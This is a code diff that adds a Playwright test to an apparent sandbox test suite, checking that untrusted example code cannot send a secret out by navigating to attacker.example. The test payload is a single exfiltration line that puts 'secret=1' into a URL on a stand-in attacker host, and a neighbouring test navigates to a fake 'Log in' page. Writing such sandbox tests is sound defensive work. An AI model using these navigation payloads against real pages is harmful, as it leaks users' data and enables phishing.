@@ -146,6 +146,18 @@ test('cannot navigate the page, open windows or dialogs', async ({ page }) => {
   await expectPageUnharmed(page);
 });
 
+test('carries nothing away in an address when it leaves its own frame', async ({ page }) => {
+  const reached: string[] = [];
+  await page.route('https://attacker.example/**', (route) => {
+    reached.push(route.request().url());
+    return route.abort();
+  });
+  const report = await attack(page, `location.href = 'https://attacker.example/?secret=1';`, 'error');
+  expect(report.ended).toBe(true);
+  expect(reached).toEqual([]);
+  await expectPageUnharmed(page);
+});
+
 test('is stopped when it leaves its own frame', async ({ page }) => {
   const report = await attack(page, `location.href = 'data:text/html,<h1>Log in</h1>';`, 'error');
   expect(report.errors.at(-1)!.message).toBe('The example tried to leave its frame, so it was stopped.');
